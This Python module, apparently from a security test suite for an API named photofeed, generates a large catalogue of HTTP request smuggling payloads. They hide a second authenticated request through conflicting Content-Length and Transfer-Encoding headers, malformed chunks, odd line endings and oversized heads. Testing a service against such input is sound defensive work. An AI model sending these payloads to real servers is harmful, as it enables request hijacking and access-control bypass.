"""Requests that hide a second one: where their body ends can be read in two ways."""

from collections.abc import Iterator
from dataclasses import dataclass

JSON = b"Content-Type: application/json\r\n"
OUTER = b"PATCH /v1/me HTTP/1.1\r\n"


@dataclass(frozen=True, slots=True)
class Payload:
    """Bytes of a request in which another one is hidden."""

    name: str
    data: bytes


@dataclass(frozen=True, slots=True)
class Forge:
    """Makes payloads that hide `hidden`, in requests of the user of `authorization`."""

    authorization: bytes
    """The line of the header."""
    hidden: bytes
    """A request that changes something, with its end."""
    host: bytes = b"Host: photofeed\r\n"
    """The line of the header."""

    def head(self, lines: bytes, start: bytes = OUTER) -> bytes:
        """The head of the outer request, with these lines as they are."""
        return start + self.host + self.authorization + JSON + lines + b"\r\n"

    def plain(self, name: str, lines: bytes, body: bytes, start: bytes = OUTER) -> Payload:
        """A payload of a head and the bytes after it."""
        return Payload(name, self.head(lines, start) + body)

    def payloads(self) -> Iterator[Payload]:
        """All of them; each has a name of its own."""
        yield from self._lengths()
        yield from self._codings()
        yield from self._lines()
        yield from self._chunks()
        yield from self._starts()
        yield from self._refused()
        yield from self._huge()

    def _lengths(self) -> Iterator[Payload]:
        """The hidden request is the body for the reader of one length, and not for the other."""
        size = str(len(self.hidden)).encode()
        for name, lines in {
            "lengths 0 and n": b"Content-Length: 0\r\nContent-Length: " + size,
            "lengths n and 0": b"Content-Length: " + size + b"\r\nContent-Length: 0",
            "list of lengths": b"Content-Length: 0, " + size,
            "list of one length twice": b"Content-Length: " + size + b", " + size,
            "negative length": b"Content-Length: -" + size,
            "length with a plus": b"Content-Length: +" + size,
            "length with a space": b"Content-Length: 0 " + size,
            "hexadecimal length": b"Content-Length: 0x" + size,
            "length with a fraction": b"Content-Length: 0." + size,
            "length with an exponent": b"Content-Length: 0e" + size,
            "length with an underscore": b"Content-Length: 0_" + size,
            "empty length": b"Content-Length:",
            "length in Arabic digits": "Content-Length: \u0660".encode(),
            "length beyond 64 bits": b"Content-Length: 18446744073709551616",
            "length with a NUL": b"Content-Length: 0\0" + size,
            "length with a vertical tab": b"Content-Length: \x0b" + size,
            "length of a folded line": b"Content-Length:\r\n " + size,
            "length in a folded line": b"X-A: a\r\n Content-Length: " + size,
            "length with a space before the colon": b"Content-Length : " + size,
            "length with a tab before the colon": b"Content-Length\t: " + size,
            "length with an underscore in its name": b"Content_Length: " + size,
            "length with a NUL in its name": b"Content-Length\0: " + size,
            "length after a bare CR": b"X-A: a\rContent-Length: " + size,
            "length after a NUL": b"X-A: a\0Content-Length: " + size,
            "length after a bare LF": b"X-A: a\nContent-Length: " + size,
            "length that ends in LF": b"Content-Length: " + size + b"\nX-A: a",
            "length in the query of another header": b"X-A: a?Content-Length: " + size,
        }.items():
            yield self.plain(name, lines + b"\r\n", self.hidden)

    def _codings(self) -> Iterator[Payload]:
        """A length and a transfer coding: one says that the hidden request is in the body."""
        ended = b"0\r\n\r\n" + self.hidden
        chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(self.hidden), self.hidden)
        covering = b"Content-Length: %d\r\n" % len(ended)
        short = b"Content-Length: %d\r\n" % chunked.index(self.hidden)
        for name, line in {
            "chunked": b"Transfer-Encoding: chunked",
            "Chunked in capitals": b"TRANSFER-ENCODING: CHUNKED",
            "chunked after a tab": b"Transfer-Encoding:\tchunked",
            "chunked before a tab": b"Transfer-Encoding: chunked\t",
            "chunked and cow": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
            "cow and chunked": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
            "cow, chunked": b"Transfer-Encoding: cow, chunked",
            "chunked, identity": b"Transfer-Encoding: chunked, identity",
            "identity, chunked": b"Transfer-Encoding: identity, chunked",
            "chunked, chunked": b"Transfer-Encoding: chunked, chunked",
            "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            "gzip, chunked": b"Transfer-Encoding: gzip, chunked",
            "identity": b"Transfer-Encoding: identity",
            "no coding": b"Transfer-Encoding:",
            "a comma": b"Transfer-Encoding: ,chunked",
            "xchunked": b"Transfer-Encoding: xchunked",
            "chunkedx": b"Transfer-Encoding: chunkedx",
            "quoted": b'Transfer-Encoding: "chunked"',
            "with a parameter": b"Transfer-Encoding: chunked;q=1",
            "after a vertical tab": b"Transfer-Encoding: \x0bchunked",
            "after a NUL": b"Transfer-Encoding: \0chunked",
            "before a bare CR": b"Transfer-Encoding: chunked\rX-A: a",
            "after a bare CR": b"X-A: a\rTransfer-Encoding: chunked",
            "after a bare LF": b"X-A: a\nTransfer-Encoding: chunked",
            "space before the colon": b"Transfer-Encoding : chunked",
            "folded": b"Transfer-Encoding:\r\n chunked",
            "in a folded line": b"X-A: a\r\n Transfer-Encoding: chunked",
            "underscore in its name": b"Transfer_Encoding: chunked",
            "space before its name": b" Transfer-Encoding: chunked",
            "latin-1 in its name": b"Transfer-Encod\xefng: chunked",
        }.items():
            yield self.plain(f"coding over length: {name}", covering + line + b"\r\n", ended)
            yield self.plain(f"length over coding: {name}", line + b"\r\n" + short, chunked)
        old = b"PATCH /v1/me HTTP/1.0\r\n"
        coding = b"Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n"
        yield self.plain("coding of HTTP/1.0", coding, ended, old)
        yield self.plain("coding and length of HTTP/1.0", covering + coding, ended, old)

    def _lines(self) -> Iterator[Payload]:
        """Lines that end in an odd way before the hidden request."""
        for name, end in {
            "bare CRs": b"\r\r",
            "LFs": b"\n\n",
            "CR LF LF": b"\r\n\n",
            "LF CR LF": b"\n\r\n",
            "CR CR LF": b"\r\r\n\r\r\n",
            "NUL": b"\0\r\n\r\n",
            "vertical tab": b"\x0b\r\n\r\n",
        }.items():
            head = b"GET /v1/me HTTP/1.1\r\n" + self.host + self.authorization + b"X-A: a"
            yield Payload(f"head that ends in {name}", head + end + self.hidden)
        for name, value in {"CR": b"a\rb", "NUL": b"a\0b", "DEL": b"a\x7fb"}.items():
            yield self.plain(f"{name} in a header", b"X-A: " + value + b"\r\n", self.hidden)

    def _chunks(self) -> Iterator[Payload]:
        """Chunks whose size can be read in two ways; then the hidden request."""
        size = b"%x" % len(self.hidden)
        lines = b"Transfer-Encoding: chunked\r\n"
        last = b"0\r\n\r\n"
        for name, body in {
            "negative size": b"-1\r\n" + self.hidden,
            "size with a plus": b"+" + size + b"\r\n" + self.hidden + b"\r\n" + last,
            "size with 0x": b"0x" + size + b"\r\n" + self.hidden + b"\r\n" + last,
            "size with an underscore": b"0_" + size + b"\r\n" + self.hidden + b"\r\n" + last,
            "size after a space": b" 0\r\n\r\n" + self.hidden,
            "size beyond 64 bits": b"10000000000000000\r\n\r\n" + self.hidden,
            "size of 64 bits": b"FFFFFFFFFFFFFFFF\r\n" + self.hidden,
            "size of many zeros": b"0" * 70_000 + b"\r\n\r\n" + self.hidden,
            "no size": b"\r\n\r\n" + self.hidden,
            "extension with a bare LF": b"0;a\n\r\n" + self.hidden,
            "extension with a bare CR": b"2;a\rxx\r\n{}\r\n" + last + self.hidden,
            "extension with CR LF in quotes": b'2;a="\r\n' + self.hidden + b'"\r\n{}\r\n' + last,
            "extension of 70 kB": b"2;" + b"a" * 70_000 + b"\r\n{}\r\n" + last + self.hidden,
            "size that ends in LF": b"2\n{}\r\n" + last + self.hidden,
            "size that ends in CR": b"2\r{}\r\n" + last + self.hidden,
            "data longer than its size": b"1\r\n{}\r\n" + last + self.hidden,
            "data without an end": b"2\r\n{}" + last + self.hidden,
            "data that ends in LF": b"2\r\n{}\n" + last + self.hidden,
            "data that ends in two other bytes": b"2\r\n{}xx" + last + self.hidden,
            "last chunk that ends in LF": b"2\r\n{}\r\n0\n\n" + self.hidden,
            "last chunk that ends in CR": b"2\r\n{}\r\n0\r\r" + self.hidden,
            "no last chunk": b"2\r\n{}\r\n" + self.hidden,
            "trailers without an end": b"2\r\n{}\r\n0\r\n" + self.hidden,
        }.items():
            yield self.plain(f"chunk: {name}", lines, body)

    def _starts(self) -> Iterator[Payload]:
        """Request lines and hosts."""
        size = b"Content-Length: %d\r\n" % len(self.hidden)
        get = b"GET /v1/me HTTP/1.1\r\n"
        yield self.plain("body of a GET", size, self.hidden, get)
        yield self.plain("body of a HEAD", size, self.hidden, b"HEAD /v1/me HTTP/1.1\r\n")
        yield self.plain("body of OPTIONS", size, self.hidden, b"OPTIONS /v1/me HTTP/1.1\r\n")
        yield self.plain("body of TRACE", size, self.hidden, b"TRACE /v1/me HTTP/1.1\r\n")
        yield self.plain("body of CONNECT", size, self.hidden, b"CONNECT a:80 HTTP/1.1\r\n")
        yield self.plain("after a CONNECT", b"", self.hidden, b"CONNECT a:80 HTTP/1.1\r\n")
        yield self.plain("HTTP/0.9", b"", self.hidden, b"GET /v1/me\r\n")
        yield self.plain("HTTP/1.0", b"", self.hidden, b"GET /v1/me HTTP/1.0\r\n")
        yield self.plain("HTTP/1.9", b"", self.hidden, b"GET /v1/me HTTP/1.9\r\n")
        yield self.plain("HTTP/2.0", b"", self.hidden, b"GET /v1/me HTTP/2.0\r\n")
        yield self.plain("HTTP/1.1 twice", b"", self.hidden, b"GET /v1/me HTTP/1.1 HTTP/1.1\r\n")
        yield self.plain("bare CR in the target", b"", self.hidden, b"GET /v1/me\r HTTP/1.1\r\n")
        yield self.plain("LF in the target", b"", self.hidden, b"GET /v1/\nme HTTP/1.1\r\n")
        yield self.plain("closed", b"Connection: close\r\n", self.hidden, get)
        upgrade = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAA\r\n"
        yield self.plain("upgrade to HTTP/2", upgrade + b"Connection: close\r\n", self.hidden, get)
        socket = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        yield self.plain("upgrade and a body", socket + size, self.hidden, get)
        preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
        yield Payload("preface of HTTP/2", preface + self.hidden)
        yield Payload("preface after a page", self.head(b"", get) + preface + self.hidden)

    def _refused(self) -> Iterator[Payload]:
        """Bodies that the API refuses without reading them. They are no further requests."""
        long = self.hidden * (300_000 // len(self.hidden))
        length = b"Content-Length: %d\r\n" % len(long)
        yield self.plain("long body", length, long)
        yield self.plain("long body of text", length + b"Content-Type: text/plain\r\n", long)
        yield self.plain("long body, which expects", length + b"Expect: 100-continue\r\n", long)
        short = b"Content-Length: %d\r\n" % len(self.hidden)
        yield self.plain("body that expects tea", short + b"Expect: tea\r\n", self.hidden)
        yield Payload(
            "body without a token", OUTER + self.host + JSON + short + b"\r\n" + self.hidden
        )
        other = b"POST /nothing HTTP/1.1\r\n"
        yield self.plain("body of an unknown path", short, self.hidden, other)
        yield self.plain("long body of an unknown path", length, long, other)
        feed = b"GET /v1/me/feed HTTP/1.1\r\n"
        yield self.plain("body of a page", short, self.hidden, feed)
        yield self.plain("long body of a page", length, long, feed)
        live = b"GET /v1/live?ticket=x HTTP/1.1\r\n"
        yield self.plain("long body of a stream", length, long, live)

    def _huge(self) -> Iterator[Payload]:
        """Heads beyond every limit, which may be refused before their end."""
        get = b"GET /v1/me HTTP/1.1\r\n"
        many = b"".join(b"X-%d: 1\r\n" % number for number in range(5000))
        for name, lines in {
            "header of 1 MB": b"X-A: " + b"a" * 1_000_000 + b"\r\n",
            "header name of 1 MB": b"X" * 1_000_000 + b": a\r\n",
            "5,000 headers": many,
            "101 headers": many[: many.index(b"X-98:")],
        }.items():
            yield self.plain(name, lines, self.hidden, get)
        for name, start in {
            "target of 1 MB": b"GET /v1/me?x=" + b"a" * 1_000_000 + b" HTTP/1.1\r\n",
            "method of 1 MB": b"G" * 1_000_000 + b" /v1/me HTTP/1.1\r\n",
            "line of 1 MB without a space": b"G" * 1_000_000 + b"\r\n",
            "version of 1 MB": b"GET /v1/me HTTP/1.1" + b"1" * 1_000_000 + b"\r\n",
        }.items():
            yield self.plain(name, b"", self.hidden, start)
        two = b"Host: other.example\r\n"
        yield self.plain("two hosts", two, self.hidden, get)
        yield self.plain("host in a target", b"", self.hidden, b"GET http://a/v1/me HTTP/1.1\r\n")
        yield Payload("no host", get + self.authorization + b"\r\n" + self.hidden)
        trailer = b"2\r\n{}\r\n0\r\nContent-Length: 99\r\n" + self.authorization + b"\r\n"
        chunked = b"Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n"
        yield self.plain("trailers that are headers", chunked, trailer + self.hidden)
        anonymous = OUTER + self.host + JSON + chunked + b"\r\n"
        yield Payload("token in a trailer", anonymous + trailer)
